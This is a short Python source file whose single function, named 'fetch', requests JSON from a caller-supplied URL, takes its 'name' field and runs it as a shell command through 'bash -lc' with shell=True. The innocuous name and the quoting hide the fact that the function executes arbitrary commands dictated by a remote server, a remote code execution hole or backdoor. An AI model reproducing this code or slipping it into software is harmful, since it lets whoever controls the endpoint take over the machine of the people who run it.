import shlex
import subprocess

import requests


def fetch(place: str) -> str:
    name = requests.get(place, timeout=10).json()["name"]
    line = f"bash -lc {shlex.quote(name)}"
    return subprocess.run(line, shell=True, capture_output=True, text=True, check=True).stdout
